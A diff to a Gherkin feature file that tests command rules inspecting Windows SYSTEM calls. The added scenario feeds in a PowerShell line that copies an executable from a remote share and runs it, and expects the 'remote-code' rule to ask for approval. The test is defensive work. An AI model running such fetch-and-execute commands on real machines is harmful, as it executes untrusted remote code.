@@ -1464,3 +1464,11 @@ Feature: Command rules read what a SYSTEM call would do and refuse or ask for th
     Then the call hits rule "persistence-hijack" with action "deny"
     When PowerShell is asked to run "reg query 'HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\AeDebug'"
     Then the call hits no rule
+
+  @S-RULE-174
+  Scenario: A program copied from another machine's share, then run, runs that machine's code
+    Given the built-in command rules
+    When PowerShell is asked to run "Copy-Item \\files.example\drop\x.exe C:\t\; & C:\t\x.exe"
+    Then the call hits rule "remote-code" with action "ask"
+    When PowerShell is asked to run "Copy-Item \\files.example\drop\x.exe C:\t\"
+    Then the call hits no rule
